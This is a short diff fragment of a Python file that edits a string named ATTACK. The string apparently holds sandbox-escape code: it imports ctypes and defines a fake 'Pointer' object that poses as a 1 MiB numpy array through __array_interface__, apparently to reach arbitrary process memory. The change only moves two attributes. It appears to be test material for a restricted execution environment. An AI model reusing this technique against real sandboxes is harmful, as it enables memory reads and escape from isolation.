@@ -7,7 +7,8 @@ ATTACK = """
 import ctypes
 ASKED = []
 class Pointer:
-    shape, dtype, ndim, size, nbytes, itemsize, strides = (1 << 20,), np.dtype('u1'), 1, 1 << 20, 1 << 20, 1, (1,)
+    shape, dtype, ndim, itemsize, strides = (1 << 20,), np.dtype('u1'), 1, 1, (1,)
+    size = nbytes = 1 << 20
     flags, __array_priority__ = {}, 1e9
     @property
     def __array_interface__(self):
